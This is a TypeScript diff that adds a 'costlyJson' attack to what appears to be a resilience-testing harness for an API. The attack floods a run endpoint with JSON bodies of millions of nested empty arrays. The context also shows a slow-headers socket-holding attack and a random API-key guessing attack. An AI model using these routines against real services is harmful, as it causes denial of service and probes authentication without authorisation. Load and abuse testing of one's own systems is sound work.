@@ -37,6 +37,28 @@ export const unfinishedHeaders: Attack = holdSockets({
   opening: ({ target }) => `GET /v2/${target.victimEndpointId}/health HTTP/1.1\r\nHost: victim\r\nX-Slow: `,
 });
 
+/** One body of millions of tiny lists at a time, again and again: nothing costs a parser more. */
+export const costlyJson: Attack = async ({ target: { runUrl, tenant }, signal, tally }) => {
+  const pool = new Pool(runUrl, { connections: 1 });
+  const request = {
+    method: 'POST',
+    path: `/v2/${tenant.endpointId}/runsync?wait=1000`,
+    headers: { authorization: `Bearer ${tenant.apiKey}`, 'content-type': 'application/json' },
+    body: `{"input":{"a":[${'[],'.repeat(Math.floor((ANNOUNCED_BYTES - 64) / 3))}[]]}}`,
+  } as const;
+  while (!signal.aborted) {
+    try {
+      const { body, statusCode } = await pool.request({ ...request, signal });
+      await body.dump();
+      tally.note(`answered ${statusCode}`);
+    } catch {
+      tally.note('reset');
+    }
+    await systemClock.sleep(ROUND_MS, signal);
+  }
+  await pool.destroy();
+};
+
 /** Keys that look right and that nobody was given, some 200 a second, at both APIs. */
 export const randomKeys: Attack = async ({ target, signal, tally }) => {
   const pools = ORIGINS.map((origin) => new Pool(target[origin], { connections: CONNECTIONS }));
